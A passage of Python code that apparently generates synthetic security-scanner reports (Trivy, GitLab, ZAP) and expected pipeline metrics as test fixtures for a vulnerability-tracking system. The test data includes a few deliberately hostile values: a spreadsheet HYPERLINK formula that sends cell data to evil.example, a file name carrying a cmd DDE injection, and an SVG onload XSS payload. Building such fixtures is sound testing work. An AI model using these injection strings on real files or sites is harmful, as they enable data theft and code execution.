                     dict(rule=rule, title=title, message=message, workload=workload, line=18, span=22))
    for i, files in REPO_FILES.items():
        for file in files:
            docker = "Dockerfile" in file
            for rule, title, severity, message in rows(DOCKER_RULES if docker else K8S_RULES):
                if dice("repo", i, file, rule) < 0.9:
                    flaw((rule, file), "iac", severity.lower(), i, life(severity.lower(), ALWAYS, [i], i, rule, file),
                         dict(rule=rule, title=title, message=message, file=file, docker=docker, line=1 if docker else 16,
                              span=0 if docker else 24))

def make_secrets():
    stream = {st.service: i for i, st in STREAM.items() if st.writer == "gitlab_sd"}
    for n, (service, group, rule, severity, file) in enumerate(line.split() for line in SECRETS.strip().splitlines()):
        i = stream[service]
        since = [ALWAYS, D("08-28"), D("09-18")][int(group)]
        spans = [(since, D("10-12"))] if severity == "Critical" else life(severity.lower(), since, [i], rule, file)
        flaw((rule, file), "secret", severity.lower(), i, spans,
             dict(rule=rule, name=rule.replace("-", " ").capitalize(), file=file, line=3 + n,
                  secret=f"EXAMPLE-NOT-A-SECRET-{n + 1:02}-{service}"))
    name = '=HYPERLINK("http://evil.example/?x="&A1,"open me")'
    flaw(("spreadsheet-token", "docs/=cmd|' /C calc'!A0.csv"), "secret", "medium", "sd-promo", [(ALWAYS, FOREVER)],
         dict(rule="spreadsheet-token", name=name, file="docs/=cmd|' /C calc'!A0.csv", line=1, secret="EXAMPLE-NOT-A-SECRET-90-formula"),
         "hostile: formula")
    for i, text in TRIVY_SECRETS.items():
        rule, title, file = text.split(":")
        flaw((rule, file), "secret", "medium", i, [(ALWAYS, FOREVER)], dict(rule=rule, title=title, file=file, line=7))

def make_web():
    zap = [(i, st) for i, st in STREAM.items() if st.writer in ("zap", "zap_xml")]
    pages = "/ /account /assets/app.js /cart /contact /help /search /terms /news /track /profile /offers /list /home /intro /faq /about /press /jobs /blog".split()
    for i, st in zap:
        for n, (group, plugin, name, risk, conf, cwe, param) in enumerate(rows(ZAP_ALERTS)):
            if dice("zap", i, plugin) > (0.86 if group == "0" else 0.7):
                continue
            severity = ["info", "low", "medium", "high"][int(risk)]
            since = [ALWAYS, D("09-02"), D("10-02")][int(group)]
            spans, story, said = life(severity, since, [i], i, plugin), None, "open"
            if i == "zap-storefront" and plugin == "10011":
                spans, story = [(ALWAYS, D("09-01")), (D("10-01"), FOREVER)], "reopened"
            if i == "zap-storefront" and plugin == "10202":
                conf, spans, story, said = "0", [(ALWAYS, FOREVER)], "false positive in ZAP", "false_positive"
            flaw((plugin,), "dast", severity, i, spans, dict(rule=plugin, name=name, risk=risk, conf=conf, cwe=int(cwe), param=param,
                                                             path=pages[n], method="GET", said=said), story)
    flaw(("40012",), "dast", "high", "zap-track", [(ALWAYS, FOREVER)],
         dict(rule="40012", name="Cross Site Scripting (Reflected)", risk="3", conf="2", cwe=79, param="q",
              path="/search?q=%3Csvg%20onload%3Dalert%281%29%3E", method="GET",
              attack="<svg onload=alert(1)>", evidence="<svg onload=alert(1)>"), "hostile: URL")
    for i in ("dast-checkout", "dast-backoffice"):
        for group, rule, name, severity, cwe, method, path, param in rows(DAST_CHECKS):
            if dice("dast", i, rule) < 0.87 or group != "0":
                since = [ALWAYS, D("09-01"), D("10-01")][int(group)]
                data = dict(rule=rule, name=name, cwe=int(cwe), method=method, path=path, param=param)
                if group == "0":
                    data["detected"] = D("2026-05-20") + DAY * int(dice("found", i, rule) * 70)
                flaw((rule, method, path), "dast", severity.lower(), i, life(severity.lower(), since, [i], i, rule), data)
    for i, paths in (("fuzz-payments", "/v2/payments /v2/refunds /v2/payouts /v2/webhooks /v2/cards /v2/mandates /v2/limits /v2/currencies"),
                     ("fuzz-catalog", "/v1/products /v1/prices /v1/stock /v1/images /v1/categories /v1/offers /v1/bundles")):
        for n, path in enumerate(paths.split()):
            check = API_CHECKS[n % len(API_CHECKS)]
            severity = ["medium", "low", "medium", "low", "medium", "info"][n % 6]
            method = "GET" if n % 3 else "POST"
            flaw((check, method, path), "api", severity, i, life(severity, ALWAYS, [i], i, path),
                 dict(rule=check, method=method, path=path))
    for crash, function, severity, cwe, since, until in rows(CRASHES):
        flaw((crash, function), "fuzz", severity.lower(), "cov-label", [(D(since), FOREVER if until == "-" else D(until))],
             dict(crash=crash, function=function, cwe=int(cwe)))

def build():
    make_packages()
    make_code()
    make_infrastructure()
    make_secrets()
    make_web()
    return [f for f in FLAWS.values() if any(reported(f, s) for s in ALL_SCANS)]

def reported(f, scan):
    return scan.ok and scan.stream.id in f.streams and f.present(scan.at)

# ===============================================================================================================
# The truth: what the pipeline should find, month after month, from the model alone
# ===============================================================================================================
SLA_DAYS = {"critical": 7, "high": 30, "medium": 90, "low": 180}
Cover = collections.namedtuple("Cover", "id service cve rule component path disposition granted expires status")

def register(month):
    """The exceptions that the registers of a month hold."""
    out = []
    for r in rows(EXCEPTIONS):
        if month[5:] in r[0].split():
            _, eid, service, cve, rule, component, path, disposition, _, _, granted, expires, status, _ = r
            out.append(Cover(eid, service, cve, rule, component, path, "false_positive" if disposition == "False positive" else "accepted",
                             granted, expires, status))
    for key, service, cve, _, approved, expires, _ in rows(RISKS):
        if approved != "-" and D(approved) < month_end(month):
            out.append(Cover(key, service, cve, "", "", "", "accepted", f"{D(approved):%Y-%m-%d}", expires, "Approved"))
    for r in rows(WIKI_EXCEPTIONS):
        if month[5:] in r[0].split():
            _, eid, service, cve, component, _, _, granted, expires, status = r
            out.append(Cover(eid, service, cve, "", component.strip("`"), "", "accepted", granted, expires, status))
    return out

def expiry(x):
    return D(x.expires) if re.match(r"\d{4}-", x.expires) else None

def in_force(x, day):
    return x.status in ("Active", "Approved") and x.granted and D(x.granted) <= day and (not expiry(x) or expiry(x) >= day)

def glob(pattern):
    return re.compile(re.escape(pattern).replace(r"\*\*", ".*").replace(r"\*", "[^/]*") + "$")

def covers(x, f):
    if not (x.cve or x.rule or x.component or x.path):
        return False                                        # only a service: too broad, covers nothing
    rule = f.data["rule"]["id"] if f.kind == "sast" else f.data.get("rule")
    return (x.service == f.service and (not x.cve or x.cve == f.data.get("cve")) and (not x.rule or x.rule == rule)
            and (not x.component or x.component.lower() == f.data.get("name", "").lower()) and (not x.path
                    or bool(glob(x.path).match(f.data.get("file", "")))))

def history(f):
    """(time, 'open' or 'resolved'), from the scans that cover the flaw: a source is gone when a later good scan lacks it."""
    out, live = [], set()
    for s in ALL_SCANS:
        if s.stream.id not in f.streams or not s.ok:
            continue
        if f.present(s.at):
            if not live and (not out or out[-1][1] == "resolved"):
                out.append((s.at, "open"))
            live.add(s.stream.id)
        elif s.stream.id in live:
            live.discard(s.stream.id)
            if not live:
                out.append((s.at, "resolved"))
    return out

def state_at(f, month):
    """State at the end of a month, or None where it has not been seen yet; and when it was last resolved."""
    past = [e for e in f.history if e[0] < month_end(month)]
    if not past:
        return None, None
    if past[-1][1] == "resolved":
        return "resolved", past[-1][0]
    if f.said != "open":
        return f.said, None
    force = [x for x in register(month) if covers(x, f) and in_force(x, month_end(month))]
    return (force[0].disposition if force else "open"), None

def midnight(t):
    return t.replace(hour=0, minute=0, second=0)

def first_seen(f):
    seen = midnight(f.history[0][0])
    return min(seen, f.detected) if f.detected else seen

def due(f):
    return first_seen(f) + DAY * SLA_DAYS[f.severity] if f.severity in SLA_DAYS else None

def owner_of(service, month):
    """Owner by the inventory of the month, "" where it names none."""
    since, owner = OWNER_FROM.get(service, ("9", ""))
    return owner if month >= since else OWNER.get(service, "")

Ticket = collections.namedtuple("Ticket", "key service cve severity created owner steps status resolution resolved")

def tickets(month):
    """The tickets that were there at the end of the month, as they were then."""
    out = []
    for key, service, cve, severity, created, owner, steps in rows(TICKETS):
        steps = [re.match(r"(\d\d-\d\d) ([^:]*)(?:: (.*))?$", s).groups() for s in steps.split(", ") if s]
        steps = [(D(day), status, resolution) for day, status, resolution in steps if D(day) < month_end(month)]
        last = steps[-1] if steps else (None, "To Do", None)
        if D(created) < month_end(month):
            out.append(Ticket(key, service.strip("-"), cve, severity, D(created), owner.strip("-"), steps, last[1], last[2],
                              last[0] if last[2] else None))
    return out

def ticket_of(f, month):
    """The ticket of the same service and CVE, or None."""
    return next((t for t in tickets(month) if f.service and t.service == f.service and t.cve == f.data.get("cve")), None)

def owner_at(f, month):
    """By the inventory, else the assignee of its ticket, else ""."""
    ticket = None if owner_of(f.service, month) else ticket_of(f, month)
    return owner_of(f.service, month) or (ticket.owner if ticket else "")

def exploited(month):
    """CVE -> due date, of what the catalogue held at the end of the month."""
    return {r[0]: r[4] for r in rows(KEV) if D(r[3]) < month_end(month)}

def month_truth(flaws, month):
    a, b = month_start(month), month_end(month)
    d = b - DAY
    known = [(f, *state_at(f, month)) for f in flaws]
    known = [k for k in known if k[1]]
    open_ = [f for f, s, _ in known if s == "open"]
    count = lambda seq: dict(sorted(collections.Counter(seq).items()))
    looked = {s.stream.id for s in ALL_SCANS if s.ok and a <= s.at < b}
    cohort = [(f, s, at) for f, s, at in known if due(f) and a <= due(f) < b and s != "false_positive"]
    beside = [f for f, s, at in cohort if f.said == "accepted" or any(covers(x, f) and in_force(x, due(f)) for x in register(month))]
    cohort = [(f, s, at) for f, s, at in cohort if f not in beside]
    in_time = [f for f, s, at in cohort if s == "resolved" and midnight(at) <= due(f)]
    reopened = [f for f in flaws if any(a <= t < b and n and what == "open" for n, (t, what) in enumerate(f.history))]
    registers = register(month)
    tracked = [(f, s, ticket_of(f, month)) for f, s, _ in known]
    tracked = [x for x in tracked if x[2]]
    sast = {"codeql", "gosec", "semgrep", "gitlab_sast"}
    covered = lambda writers: {s.stream.service for s in ALL_SCANS if s.ok and a <= s.at < b and s.stream.writer in writers}
    by_tier = lambda writers: {t: [len([r for r in INVENTORY if r[3] == t and r[0] in covered(writers)]),
                                   len([r for r in INVENTORY if r[3] == t])] for t in "123"}
    return {
        "findings_known": len(known), "by_state": count(s for _, s, _ in known), "known_by_service": count(f.service or "(none) " + f.scope
                for f, _, _ in known),
        "open": len(open_), "open_by_severity": count(f.severity for f in open_), "open_by_service": count(f.service or "(none) " + f.scope
                for f in open_),
        "new": sum(a <= first_seen(f) < b for f, _, _ in known), "closed": sum(s == "resolved" and at >= a for _, s, at in known),
        "reopened": len(reopened),
        "open_critical": sum(f.severity == "critical" for f in open_),
        "critical_older_than_sla": sum(f.severity == "critical" and d > due(f) for f in open_),
        "critical_older_than_sla_tier_1": sum(f.severity == "critical" and d > due(f) and TIER.get(f.service) == "1" for f in open_),
        "overdue_findings": sum(bool(due(f)) and d > due(f) for f in open_),
        "sla_compliance": {"due": len(cohort), "in_time": len(in_time), "beside": len(beside)},
        "open_without_owner": sum(not owner_at(f, month) for f in open_), "open_unmapped": sum(f.service not in OWNER
                for f in open_),
        "open_not_looked_for": sum(not looked & set(f.streams) for f in open_),
        "exceptions": {"in_registers": len(registers), "in_force": sum(bool(in_force(x, b)) for x in registers),
                       "kept_by_scanners": sum(f.said != "open" and s != "resolved" for f, s, _ in known),
                       "without_expiry": sorted(x.id for x in registers if in_force(x, b) and not expiry(x)),
                       "expired_still_open": sorted(x.id for x in registers if expiry(x) and expiry(x) < b
                                                    and any(covers(x, f) for f in open_)),
                       "too_broad": sorted(x.id for x in registers if not (x.cve or x.rule or x.component or x.path)),
                       "matching_nothing": sorted(x.id for x in registers if (x.cve or x.rule or x.component or x.path)
                                                  and not any(covers(x, f) for f, _, _ in known))},
        "tickets": {"in_tracker": len(tickets(month)), "findings_with_one": len(tracked),
                    "closed_finding_open": sorted(t.key for f, s, t in tracked if s == "open" and t.resolution),
                    "matching_nothing": sorted(t.key for t in tickets(month) if all(t != x[2] for x in tracked))},
        "kev_open": sum(f.data.get("cve") in exploited(month) for f in open_),
        "coverage": {"sast": by_tier(sast), "dast": by_tier({"zap", "zap_xml", "gitlab_dast"}),
                     "any": {t: [len([r for r in INVENTORY if r[3] == t and r[0] in {s.stream.service for s in ALL_SCANS if s.ok
                             and a <= s.at < b}]), len([r for r in INVENTORY if r[3] == t])] for t in "123"}},
    }

# ===============================================================================================================
# The writers: one for each export format. Each gets the scan and the flaws that it reports, in a stable order.
# ===============================================================================================================
VECTORS = {10.0: "AV:N/AC:L/PR:N/UI:N/S:C/C:H/I:H/A:H", 9.8: "AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H",
           9.1: "AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:N",
           9.0: "AV:N/AC:H/PR:N/UI:N/S:C/C:H/I:H/A:H", 8.8: "AV:N/AC:L/PR:L/UI:N/S:U/C:H/I:H/A:H",
           8.1: "AV:N/AC:H/PR:N/UI:N/S:U/C:H/I:H/A:H",
           7.8: "AV:L/AC:L/PR:L/UI:N/S:U/C:H/I:H/A:H", 7.5: "AV:N/AC:L/PR:N/UI:N/S:U/C:N/I:N/A:H",
           7.4: "AV:N/AC:H/PR:N/UI:N/S:U/C:H/I:H/A:N",
           7.3: "AV:N/AC:L/PR:N/UI:N/S:U/C:L/I:L/A:L", 6.5: "AV:N/AC:L/PR:L/UI:N/S:U/C:N/I:N/A:H",
           6.1: "AV:N/AC:L/PR:N/UI:R/S:C/C:L/I:L/A:N",
           5.9: "AV:N/AC:H/PR:N/UI:N/S:U/C:N/I:N/A:H", 5.5: "AV:L/AC:L/PR:L/UI:N/S:U/C:N/I:N/A:H",
           5.3: "AV:N/AC:L/PR:N/UI:N/S:U/C:N/I:N/A:L",
           4.3: "AV:N/AC:L/PR:L/UI:N/S:U/C:L/I:N/A:N", 3.7: "AV:N/AC:H/PR:N/UI:N/S:U/C:L/I:N/A:N",
           3.3: "AV:L/AC:L/PR:L/UI:N/S:U/C:L/I:N/A:N"}
OS = {"debian": ("debian", "12.5"), "alpine": ("alpine", "3.18.3")}
TRIVY_LANG = {"maven": ("Java", "jar", "app/lib/{last}-{version}.jar"), "npm": ("Node.js", "node-pkg",
                                                                                "app/node_modules/{name}/package.json"),
              "pypi": ("Python", "python-pkg", "usr/local/lib/python3.9/site-packages/{name}-{version}.dist-info/METADATA"),
              "golang": ("app/server", "gobinary", "")}
LOCK = {"maven": ("pom.xml", "pom", "maven"), "npm": ("package-lock.json", "npm", "npm"), "pypi": ("requirements.txt", "pip", "pip"),
        "golang": ("go.mod", "gomod", "go")}

def compact(value):
    return json.dumps(value, ensure_ascii=False, separators=(",", ":"))

def lay(value, depth):
    """JSON with the outer `depth` levels on lines of their own, so that an entry is a line."""
    if depth == 0 or not isinstance(value, (dict, list)) or not value:
        return compact(value)
    if isinstance(value, dict):
        return "{\n" + ",\n".join(f"{compact(k)}: {lay(v, depth - 1)}" for k, v in value.items()) + "\n}"
    return "[\n" + ",\n".join(lay(v, depth - 1) for v in value) + "\n]"

def go_json(value, depth):
    """As Go prints it: < > & are escaped."""
    return lay(value, depth).replace("<", "\\u003c").replace(">", "\\u003e").replace("&", "\\u0026") + "\n"

def stamp(t, nano=False):
    return f"{t:%Y-%m-%dT%H:%M:%S}" + (f".{int(dice('nano', t) * 1e9):09d}Z" if nano else "")

def tag_of(st, at):
    return f"2.{30 + int(dice('tag', st.raw_target) * 20) + (at - D('08-01')).days // 7}.0"

def version_at(f, at):
    for since, version in BUMPS.get((f.service, f.data["name"]), []):
        if D(since) <= at:
            out = version
    return out if (f.service, f.data["name"]) in BUMPS else f.data["version"]

def purl(eco, name, version, at=None):
    quote = lambda t: t.replace("%", "%25").replace("+", "%2B").replace(":", "%3A")
    if eco in OS:
        return f"pkg:{'deb' if eco == 'debian' else 'apk'}/{eco}/{quote(name)}@{quote(version)}?arch=amd64&distro={eco + '-' if eco == 'debian' else ''}{OS[eco][1]}"
    return f"pkg:{eco}/" + (name.replace(":", "/") if eco == "maven" else name.replace("@", "%40", 1)) + "@" + quote(version.lstrip("v")
            if name == "stdlib" else version)

def trivy_vulnerability(f, scan, in_repo):
    d, eco = f.data, f.data["eco"]
    version = version_at(f, scan.at)
    os_package = eco in OS
    out = {"VulnerabilityID": d["cve"]}
    if d["cve"] in GHSA and not os_package:
        out["VendorIDs"] = [GHSA[d["cve"]]]
    out["PkgID"] = f"{d['name']}@{version}" if os_package or in_repo else None
    out["PkgName"] = d["name"]
    if not os_package and not in_repo and TRIVY_LANG[eco][2]:
        out["PkgPath"] = TRIVY_LANG[eco][2].format(name=d["name"], last=d["name"].split(":")[-1], version=version)
    out["PkgIdentifier"] = {"PURL": purl(eco, d["name"], version)}
    out["InstalledVersion"] = version
    if d["fixed"]:
        out["FixedVersion"] = d["fixed"]
    out["Status"] = "fixed" if d["fixed"] else pick(["affected", "affected", "will_not_fix", "fix_deferred"], "status", d["cve"])
    if not in_repo:
        out["Layer"] = {"DiffID": "sha256:" + hexes(64, f.service, eco)}
    out["SeveritySource"] = eco if os_package and f.severity == "low" else "nvd" if os_package else "ghsa"
    out["PrimaryURL"] = "https://avd.aquasec.com/nvd/" + d["cve"].lower()
    out["Title"] = d["title"]
    out["Description"] = f"A flaw was found in {d['name']}" + (f" before {d['fixed']}." if d["fixed"] else ".")
    out["Severity"] = f.severity.upper()
    out["CweIDs"] = [f"CWE-{d['cwe']}"]
    out["CVSS"] = {"nvd": {"V3Vector": "CVSS:3.1/" + VECTORS[d["score"]], "V3Score": d["score"]}}
    out["References"] = [f"https://nvd.nist.gov/vuln/detail/{d['cve']}"]
    out["PublishedDate"] = f"{d['published']:%Y-%m-%d}T15:15:00Z"
    return {k: v for k, v in out.items() if v is not None}

def avd_id(rule):
    """KSV011 -> AVD-KSV-0011"""
    return rule if rule.startswith("AVD") else f"AVD-{rule[:-3]}-0{rule[-3:]}"

def trivy_misconfiguration(f):
    d, rule = f.data, f.data["rule"]
    avd = avd_id(rule)
    kind = "Terraform Security Check" if "resource" in d else "Dockerfile Security Check" if d.get("docker") else "Kubernetes Security Check"
    cause = {"Provider": "AWS" if "resource" in d else "Dockerfile" if d.get("docker") else "Kubernetes",
             "Service": d.get("provider", "general")}
    if "resource" in d:
        cause = {"Resource": d["resource"], **cause}
    if d["span"]:
        cause.update(StartLine=d["line"], EndLine=d["line"] + d["span"])
    cause["Code"] = {"Lines": None}
    return {"Type": kind, "ID": rule, "AVDID": avd, "Title": d["title"], "Description": d["title"] + ".", "Message": d["message"],
            "Namespace": "builtin." + ("aws." + d["provider"] if "resource" in d else "dockerfile" if d.get("docker")
                                       else "kubernetes") + "." + rule.replace("-", ""),
            "Resolution": "See " + "https://avd.aquasec.com/misconfig/" + avd.lower(), "Severity": f.severity.upper(),
            "PrimaryURL": "https://avd.aquasec.com/misconfig/" + avd.lower(),
            "References": ["https://avd.aquasec.com/misconfig/" + avd.lower()],
            "Status": "FAIL", "Layer": {}, "CauseMetadata": cause}

def trivy_secret(f):
    d = f.data
    return {"RuleID": d["rule"], "Category": "General", "Severity": f.severity.upper(), "Title": d["title"], "StartLine": d["line"],
            "EndLine": d["line"],
            "Code": {"Lines": None}, "Match": "value = ****************", "Layer": {}}

def write_trivy_image(scan, flaws):
    st, eco = scan.stream, scan.stream.opts["os"]
    image = f"{REG}/{st.raw_target}:{tag_of(st, scan.at)}"
    family, release = OS[eco]
    results = [{"Target": f"{image} ({family} {release})", "Class": "os-pkgs", "Type": family,
                "Vulnerabilities": [trivy_vulnerability(f, scan, False) for f in flaws if f.data["eco"] in OS]}]
    if st.lang:
        target, kind, _ = TRIVY_LANG[st.lang]
        results.append({"Target": target, "Class": "lang-pkgs", "Type": kind,
                        "Vulnerabilities": [trivy_vulnerability(f, scan, False) for f in flaws if f.data["eco"] not in OS]})
    for r in results:
        if not r["Vulnerabilities"]:
            del r["Vulnerabilities"]
    created = stamp(scan.at, True) if dice("zone", st.id) < 0.6 else stamp(scan.at + DAY / 12, True)[:-1] + "+02:00"
    return go_json({"SchemaVersion": 2, "CreatedAt": created, "ArtifactName": image, "ArtifactType": "container_image",
                    "Metadata": {"OS": {"Family": family, "Name": release}, "ImageID": "sha256:" + hexes(64, image), "RepoTags": [image],
                                 "ImageConfig": {"architecture": "amd64", "os": "linux", "created": stamp(scan.at - DAY) + "Z"}},
                                 "Results": results}, 4)

def write_trivy_repo(scan, flaws):
    st = scan.stream
    results = []
    if st.lang:
        target, kind, _ = LOCK[st.lang]
        found = [trivy_vulnerability(f, scan, True) for f in flaws if f.kind == "pkg"]
        results.append({"Target": target, "Class": "lang-pkgs", "Type": kind, **({"Vulnerabilities": found} if found else {})})
    files = sorted({f.data["file"] for f in FLAWS.values() if st.id in f.streams and f.kind == "iac"}) or ["Dockerfile"]
    for file in files:
        found = [f for f in flaws if f.kind == "iac" and f.data["file"] == file]
        kind = "terraform" if file.endswith(".tf") else "dockerfile" if "Dockerfile" in file else "kubernetes"
        results.append({"Target": file, "Class": "config", "Type": kind, "MisconfSummary": {"Successes": 24 + int(dice("ok", file) * 60),
                "Failures": len(found)},
                        **({"Misconfigurations": [trivy_misconfiguration(f) for f in found]} if found else {})})
    for f in flaws:
        if f.kind == "secret":
            results.append({"Target": f.data["file"], "Class": "secret", "Secrets": [trivy_secret(f)]})
    return go_json({"SchemaVersion": 2, "CreatedAt": stamp(scan.at, True), "ArtifactName": f"https://{GIT}/{st.raw_target}.git",
                    "ArtifactType": "repository",
                    "Metadata": {"ImageConfig": {"architecture": "", "created": "0001-01-01T00:00:00Z", "os": "",
                                                 "rootfs": {"type": "", "diff_ids": None}, "config": {}}},
                    "Results": results}, 4)

def write_trivy_k8s(scan, flaws):
    resources = []
    for workload in K8S_WORKLOADS.split():
        namespace, kind, name = workload.split("/")
        found = [trivy_misconfiguration(f) for f in flaws if f.data["workload"] == workload]
        resources.append({"Namespace": namespace, "Kind": kind, "Name": name, "Results": [{"Target": f"{kind}/{name}", "Class": "config",
                "Type": "kubernetes",
                          "MisconfSummary": {"Successes": 80, "Failures": len(found)}, **({"Misconfigurations": found} if found else {})}]})
    return go_json({"ClusterName": scan.stream.raw_target, "Resources": resources}, 6)

# --- GitLab ----------------------------------------------------------------------------------------------------
def gitlab(scan, vulnerabilities, kind, scanner, version, url, schema="15.0.7", about_scan=None, **more):
    began = scan.at - datetime.timedelta(seconds=30 + int(dice("took", scan.file) * 400))
    return lay({"version": schema, "vulnerabilities": vulnerabilities, "remediations": [], **more,
                "scan": {"analyzer": {"id": scanner.lower().replace(" ", "-"), "name": scanner, "url": url, "vendor": {"name": "GitLab"},
                                      "version": version},
                         "scanner": {"id": scanner.lower().replace(" ", "-"), "name": scanner, "url": url, "vendor": {"name": "GitLab"},
                                     "version": version},
                         "type": kind, "start_time": stamp(began), "end_time": stamp(scan.at),
                         "status": "success" if scan.ok else "failure", **(about_scan or {})}}, 2) + "\n"

def identifier(kind, name, value, url=None):
    return {"type": kind, "name": name, "value": str(value), **({"url": url} if url else {})}

def cve_id(cve):
    return identifier("cve", cve, cve, f"https://nvd.nist.gov/vuln/detail/{cve}")

def cwe_id(cwe):
    return identifier("cwe", f"CWE-{cwe}", cwe, f"https://cwe.mitre.org/data/definitions/{cwe}.html")

def write_gitlab_cs(scan, flaws):
    st, out = scan.stream, []
    for f in flaws:
        d = f.data
        out.append({"id": hexes(40, "cs", *f.key), **({} if st.id == "cs-promo" else {"name": f"{d['cve']} in {d['name']}"}),
                    "description": d["title"],
                    "severity": f.severity.capitalize(), "solution": f"Upgrade {d['name']} to {d['fixed']}" if d["fixed"]
                    else "No solution provided",
                    "location": {"dependency": {"package": {"name": d["name"]}, "version": version_at(f, scan.at)},
                                 "operating_system": " ".join(OS[d["eco"]]) if d["eco"] in OS else "Unknown",
                                 "image": f"{REG}/{st.raw_target}:{tag_of(st, scan.at)}"},
                    "identifiers": [cve_id(d["cve"])], "links": [{"url": f"https://nvd.nist.gov/vuln/detail/{d['cve']}"}]})
    return gitlab(scan, out, "container_scanning", "Grype", "v0.74.0", "https://github.com/anchore/grype/")

def write_gitlab_ds(scan, flaws):
    file, _, manager = LOCK[scan.stream.lang]
    out = []
    for f in flaws:
        d = f.data
        gid = uuid("gemnasium", d["cve"], d["name"])
        out.append({"id": hexes(64, "ds", *f.key), "name": d["title"].split(": ", 1)[-1].capitalize(), "description": d["title"] + ".",
                    "severity": f.severity.capitalize(),
                    "solution": f"Upgrade to version {d['fixed']} or above." if d["fixed"]
                    else "Unfortunately, there is no solution available yet.",
                    "location": {"file": file, "dependency": {"package": {"name": d["name"].replace(":", "/")},
                                                              "version": version_at(f, scan.at)}},
                    "identifiers": [identifier("gemnasium", "Gemnasium-" + gid, gid), cve_id(d["cve"])]
                    + ([identifier("ghsa", GHSA[d["cve"]], GHSA[d["cve"]], "https://github.com/advisories/" + GHSA[d["cve"]])]
                       if d["cve"] in GHSA else []) + [cwe_id(d["cwe"])],
                    "links": [{"url": f"https://nvd.nist.gov/vuln/detail/{d['cve']}"}]})
    deps = sorted({(f.data["name"].replace(":", "/"), version_at(f, scan.at)) for f in flaws})
    return gitlab(scan, out, "dependency_scanning", "Gemnasium", "5.2.14",
                  "https://gitlab.com/gitlab-org/security-products/analyzers/gemnasium",
                  dependency_files=[{"path": file, "package_manager": manager, "dependencies": [{"package": {"name": n}, "version": v}
                          for n, v in deps]}] if scan.ok else [])

SCANNERS = {"findsecbugs": ("Find Security Bugs", "4.8.3", "find_sec_bugs_type"), "bandit": ("Bandit", "1.7.9", "bandit_test_id"),
            "njsscan": ("NodeJsScan", "0.4.3", "njsscan_rule_type"), "flawfinder": ("Flawfinder", "2.0.19", "flawfinder_func_name")}

def write_gitlab_sast(scan, flaws):
    st, out = scan.stream, []
    scanner, version, kind = SCANNERS[st.lang]
    for f in flaws:
        rule, line = f.data["rule"], line_at(f, scan)
        name = LONG_TITLE if rule["message"] == "LONG" else rule["message"]
        ids = [identifier(kind, f"{scanner}-{rule['id']}", rule["id"]), cwe_id(f.data["cwe"])]
        if st.opts.get("v14"):
            out.append({"id": hexes(64, "gs", *f.key, line), "category": "sast", "name": name, "message": name, "description": name + ".",
                        "cve": f"{hexes(32, *f.key)}:{rule['id']}:{f.data['file']}:{line}", "severity": rule["level"],
                        "confidence": rule["conf"],
                        "scanner": {"id": "find_sec_bugs", "name": scanner}, "location": {"file": file_at(f, scan), "start_line": line,
                                "end_line": line,
                        "class": file_at(f, scan)[14:-5].replace("/", "."), "method": "handle"}, "identifiers": ids})
        else:
            out.append({"id": hexes(64, "gs", *f.key), "name": name, "description": name[:200] + ".", "severity": rule["level"], "location":
                        {"file": file_at(f, scan), "start_line": line, "end_line": line}, "identifiers": ids,
                        "tracking": {"type": "source", "items": [{"file": file_at(f, scan), "line_start": line, "line_end": line,
                                     "signatures": [{"algorithm": "scope_offset",
                                                     "value": f"{file_at(f, scan)}|handle[0]:{f.data['line']}"}]}]}})
    return gitlab(scan, out, "sast", scanner, version, "https://docs.gitlab.com/ee/user/application_security/sast/",
                  "14.1.2" if st.opts.get("v14") else "15.0.7")

def write_gitlab_sd(scan, flaws):
    out = [{"id": hexes(64, "sd", *f.key), "name": f.data["name"], "description": f.data["name"] + " has been found in the repository.",
            "severity": f.severity.capitalize(),
            "raw_source_code_extract": f.data["secret"], "location": {"file": f.data["file"],
                                                                      "commit": {"date": "0001-01-01T00:00:00Z", "sha": "0000000"},
            "start_line": line_at(f, scan), "end_line": line_at(f, scan)},
            "identifiers": [identifier("gitleaks_rule_id", "Gitleaks rule ID " + f.data["rule"], f.data["rule"])]} for f in flaws]
    return gitlab(scan, out, "secret_detection", "Gitleaks", "8.18.4", "https://github.com/gitleaks/gitleaks")

def write_gitlab_dast(scan, flaws):
    out = []
    for f in flaws:
        d = f.data
        out.append({"id": uuid("dast", *f.key), **({"discovered_at": f"{d['detected']:%Y-%m-%d}T09:{int(dice('m', *f.key) * 60):02}:44.126"}
                                                   if d.get("detected") else {}),
                    "name": d["name"], "description": d["name"] + ".", "severity": f.severity.capitalize(),
                    "solution": "See the documentation of this check.",
                    "identifiers": [identifier("browserker_check", d["rule"], d["rule"],
                                               "https://docs.gitlab.com/ee/user/application_security/dast/browser/checks/"),
                                               cwe_id(d["cwe"])],
                    "links": [], "location": {"hostname": scan.stream.target, "method": d["method"], "param": d["param"],
                                              "path": d["path"]},
                    "evidence": {"summary": "", "request": {"headers": [{"name": "Accept", "value": "*/*"}], "method": d["method"],
                                                            "url": scan.stream.target + d["path"], "body": ""}}})
    urls = [{"method": f.data["method"], "type": "url", "url": scan.stream.target + f.data["path"]} for f in flaws][:6]
    return gitlab(scan, out, "dast", "Browserker", "2.9.0", "https://docs.gitlab.com/ee/user/application_security/dast/browser/",
                  about_scan={"scanned_resources": urls})

def write_gitlab_api(scan, flaws):
    out = [{"id": uuid("api", *f.key), "name": f.data["rule"],
            "description": f"{f.data['rule']} via {f.data['method']} {scan.stream.target}{f.data['path']} gave an unexpected answer.",
            "severity": f.severity.capitalize(), "identifiers": [identifier("ApiFuzzingCheck", f.data["rule"], "check:" + f.data["rule"],
                                                                            "https://docs.gitlab.com/ee/user/application_security/api_fuzzing/")],
            "location": {"hostname": scan.stream.target, "method": f.data["method"], "path": f.data["path"]},
            "assets": [{"type": "postman", "name": "Collection", "url": "https://ci.kestrelmoor.example/collection.json"}]} for f in flaws]
    return gitlab(scan, out, "api_fuzzing", "API Fuzzing", "4.10.0", "https://docs.gitlab.com/ee/user/application_security/api_fuzzing/")

def write_gitlab_cov(scan, flaws):
    out = []
    for f in flaws:
        d = f.data
        out.append({"id": hexes(64, "cov", *f.key), "category": "coverage_fuzzing", "name": "name",
                    "message": d["crash"].replace(" ", "\n", 1), "cve": "", "severity": f.severity.capitalize(),
                    "scanner": {"id": "libfuzzer", "name": "libFuzzer"}, "location": {"crash_address": "0x6020" + hexes(8, *f.key),
                            "crash_type": d["crash"].replace(" ", "\n", 1),
                    "crash_state": f"{d['function']}\nLLVMFuzzerTestOneInput\nstart\n",
                    "stacktrace_snippet": f"INFO: Seed: {int(dice('seed', *f.key) * 4e9)}\nINFO: Loaded 1 modules"},
